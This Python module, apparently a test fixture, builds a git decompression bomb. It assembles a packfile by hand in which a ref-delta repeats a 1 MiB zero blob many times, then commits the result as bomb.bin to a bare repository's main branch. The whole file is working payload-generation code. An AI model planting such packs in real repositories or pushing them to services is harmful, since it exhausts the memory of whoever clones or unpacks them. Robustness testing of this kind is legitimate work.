"""Packs that are small and unfold to much: one blob given as many copies of a piece of another one."""

import hashlib
import struct
import subprocess
import zlib
from pathlib import Path

__all__ = ["add_delta_bomb"]

_PIECE = 1024 * 1024
_BLOB, _REF_DELTA = 3, 7
_LIMIT = 60


def add_delta_bomb(bare: Path, mebibytes: int) -> None:
    """Give the branch `main` of a bare repository one more commit with `bomb.bin`, which is zeros without end.

    What travels is a few KiB; whoever unpacks it needs `mebibytes` of memory.
    """
    piece = bytes(_PIECE)
    delta = _varint(_PIECE) + _varint(_PIECE * mebibytes) + (b"\xf0\x00\x00\x10" * mebibytes)
    pack = b"PACK" + struct.pack(">II", 2, 2) + _entry(_BLOB, piece) + _entry(_REF_DELTA, delta, _name(piece, 1))
    pack += hashlib.sha1(pack, usedforsecurity=False).digest()
    _git(bare, "index-pack", "--stdin", stdin=pack)
    files = b"".join(
        b"M 100644 %s %s\n" % (name.hex().encode(), path)
        for name, path in [(_name(piece, 1), b"piece.bin"), (_name(piece, mebibytes), b"bomb.bin")]
    )
    commit = b"commit refs/heads/main\ncommitter M <m@example.org> 1700009999 +0000\ndata 4\nbomb\n"
    _git(bare, "fast-import", "--quiet", stdin=commit + b"from refs/heads/main^0\n" + files)


def _name(piece: bytes, times: int) -> bytes:
    digest = hashlib.sha1(b"blob %d\0" % (len(piece) * times), usedforsecurity=False)
    for _ in range(times):
        digest.update(piece)
    return digest.digest()


def _entry(kind: int, data: bytes, base: bytes = b"") -> bytes:
    """Type and size in git's form, the name of the base and the compressed data."""
    size = len(data)
    head = [kind << 4 | size & 15]
    size >>= 4
    while size:
        head[-1] |= 0x80
        head.append(size & 0x7F)
        size >>= 7
    return bytes(head) + base + zlib.compress(data)


def _varint(number: int) -> bytes:
    out = bytearray()
    while number > 0x7F:
        out.append(number & 0x7F | 0x80)
        number >>= 7
    return bytes([*out, number])


def _git(bare: Path, *arguments: str, stdin: bytes) -> None:
    subprocess.run(["git", "-C", str(bare), *arguments], input=stdin, check=True, capture_output=True, timeout=_LIMIT)
